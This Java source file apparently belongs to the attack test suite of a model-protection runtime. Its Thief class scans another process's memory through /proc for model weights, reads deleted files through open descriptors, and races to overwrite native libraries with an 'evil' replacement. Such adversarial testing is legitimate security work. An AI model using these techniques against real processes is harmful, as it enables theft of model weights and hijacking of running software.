package dev.brigandine.vault.attacks;

import dev.brigandine.bundle.BrigandineException;
import dev.brigandine.runtime.Brigandine;
import dev.brigandine.runtime.ProtectedModel;
import java.io.IOException;
import java.io.InputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.FileSystemException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.HashSet;
import java.util.Set;

/**
 * A process of somebody who wants the model: {@code memory PID}, {@code open-files PID}, {@code
 * replace FOLDER LIBRARY}, {@code use SOCKET}, {@code forge SOCKET LIE}. Prints {@code LOOT} if it
 * got any, else why not.
 */
public final class Thief {
  private Thief() {}

  public static void main(String[] args) throws Exception {
    switch (args[0]) {
      case "memory" -> System.out.println(memory(args[1]));
      case "open-files" -> System.out.println(openFiles(args[1]));
      case "replace" -> replace(Path.of(args[1]), Path.of(args[2]));
      case "use" -> System.out.println(use(Path.of(args[1])));
      case "forge" -> System.out.println(Forger.lie(Path.of(args[1]), args[2]));
      default -> throw new IllegalArgumentException(args[0]);
    }
  }

  private static String use(Path socket) throws Exception {
    try (ProtectedModel model = Brigandine.connect(socket)) {
      return "LOOT: an answer, " + Victim.run(model);
    } catch (BrigandineException e) {
      return "no: " + e.code() + ", " + e.getMessage();
    }
  }

  private static String memory(String pid) throws IOException {
    byte[] needle = Loot.needle();
    int regions = 0;
    try (RandomAccessFile memory = new RandomAccessFile("/proc/" + pid + "/mem", "r")) {
      for (String line : Files.readAllLines(Path.of("/proc/" + pid + "/maps"))) {
        String[] range = line.split("[- ]", 4);
        if (!range[2].startsWith("rw") || range[0].length() > 15) {
          continue;
        }
        regions++;
        long end = Long.parseUnsignedLong(range[1], 16);
        memory.seek(Long.parseUnsignedLong(range[0], 16));
        if (Loot.in(upTo(memory, end), needle)) {
          return "LOOT: the weights, in " + line.replaceAll(" +", " ");
        }
      }
      return "nothing in " + regions + " regions";
    } catch (FileSystemException e) {
      return "no: " + e.getReason();
    } catch (IOException e) {
      return "no: " + e.getMessage();
    }
  }

  /** Until {@code end}, or where nothing is mapped in truth. */
  private static InputStream upTo(RandomAccessFile memory, long end) {
    return new InputStream() {
      @Override
      public int read() {
        throw new UnsupportedOperationException();
      }

      @Override
      public int read(byte[] to, int from, int length) throws IOException {
        long left = end - memory.getFilePointer();
        if (left <= 0) {
          return -1;
        }
        try {
          return memory.read(to, from, (int) Math.min(length, left));
        } catch (IOException e) {
          return -1;
        }
      }
    };
  }

  private static String openFiles(String pid) throws IOException {
    try (DirectoryStream<Path> files = Files.newDirectoryStream(Path.of("/proc/" + pid + "/fd"))) {
      int read = 0;
      for (Path file : files) {
        if (!Files.isRegularFile(file)) {
          continue;
        }
        try (InputStream in = Files.newInputStream(file)) {
          read++;
          if (Loot.in(in, Loot.PLAIN_TEXT.getBytes(StandardCharsets.UTF_8))) {
            return "LOOT: a deleted file, by descriptor " + file.getFileName();
          }
        }
      }
      return "nothing in " + read + " files";
    } catch (IOException e) {
      return "no: " + e.getMessage();
    }
  }

  /** Puts {@code library} over each native library that appears below, as fast as it can. */
  private static void replace(Path folder, Path library) throws IOException {
    System.out.println("watching");
    Set<Path> done = new HashSet<>();
    // Until it is killed, or for a while.
    long end = System.nanoTime() + 20_000_000_000L;
    while (System.nanoTime() < end) {
      look(folder, library, done, 0);
    }
  }

  private static void look(Path folder, Path library, Set<Path> done, int depth) {
    try (DirectoryStream<Path> entries = Files.newDirectoryStream(folder)) {
      for (Path entry : entries) {
        String name = entry.getFileName().toString();
        if (depth < 3 && Files.isDirectory(entry)) {
          look(entry, library, done, depth + 1);
        } else if ((name.endsWith(".so") || name.startsWith("jna")) && done.add(entry)) {
          Path copy = Files.copy(library, folder.resolve("evil" + System.nanoTime()));
          Files.move(copy, entry, StandardCopyOption.ATOMIC_MOVE);
          System.out.println("replaced " + name);
        }
      }
    } catch (IOException | java.nio.file.DirectoryIteratorException e) {
      // Not for this thief, or gone.
    }
  }
}
